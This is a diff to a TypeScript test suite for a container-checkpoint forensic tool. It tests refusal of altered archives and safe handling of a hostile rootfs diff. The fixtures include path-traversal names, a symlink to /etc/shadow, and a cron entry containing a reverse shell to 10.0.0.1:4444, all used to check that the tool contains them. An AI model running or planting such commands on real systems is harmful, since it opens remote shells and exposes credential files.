@@ -4,7 +4,7 @@
  * tar-stream and read through the same code the CLI uses.
  */
 import { createHash } from 'node:crypto';
-import { lstat, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
+import { appendFile, lstat, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { gzipSync } from 'node:zlib';
@@ -13,6 +13,7 @@ import { triage } from '../../src/app/triage.js';
 import {
   CheckpointRefused,
   openCheckpointArchive,
+  walkRootfsDiff,
 } from '../../src/sources/checkpoint/checkpoint-archive.js';
 import { readCheckpointConfig } from '../../src/sources/checkpoint/checkpoint-records.js';
 import {
@@ -144,6 +145,18 @@ describe('reading a checkpoint archive', () => {
   });
 });
 
+describe('an archive changed between passes', () => {
+  it('is refused on the next pass', async () => {
+    const file = await checkpointWith([{ name: 'a', content: 'x' }]);
+    const archive = await openCheckpointArchive(file);
+    await scanCheckpoint(archive);
+    await appendFile(file, Buffer.alloc(512));
+    await expect(walkRootfsDiff(archive, async (e) => void e.resume())).rejects.toThrow(
+      /changed while coroner read it/,
+    );
+  });
+});
+
 describe('a hostile rootfs diff', () => {
   it('refuses names that climb and second entries, keeps links as links, bounds the entries', async () => {
     const tar = await makeTar([
@@ -181,6 +194,7 @@ describe('a hostile rootfs diff', () => {
         { name: 'var/www/a.php', content: 'second copy' },
         { name: '../../../../tmp/escaped', content: 'x' },
         { name: 'var/www/link', type: 'symlink', linkname: '../../../../../etc/shadow' },
+        { name: '/etc/cron.d/job', content: '* * * * * root sh -i >& /dev/tcp/10.0.0.1/4444 0>&1' },
       ],
       [{ name: 'deleted.files', content: '["/etc/motd", "../../x", "relative"]' }],
     );
@@ -191,6 +205,11 @@ describe('a hostile rootfs diff', () => {
     const paths = [...done.changes].map((c) => c.path);
     expect(paths).toEqual(expect.arrayContaining(['/var/www/a.php', '/var/www/link', '/etc/motd']));
     expect(paths).not.toContain('/tmp/escaped');
+    // An absolute name is the container path it names, stored in the case like any other.
+    expect(
+      [...done.changes].find((c) => c.path === '/etc/cron.d/job')?.current?.content?.path,
+    ).toMatch(/^current\//);
+    await expect(lstat('/etc/cron.d/job')).rejects.toThrow();
     const shell = [...done.changes].find((c) => c.path === '/var/www/a.php')!;
     expect(shell.severity).toBe('critical');
     const link = [...done.changes].find((c) => c.path === '/var/www/link')!;
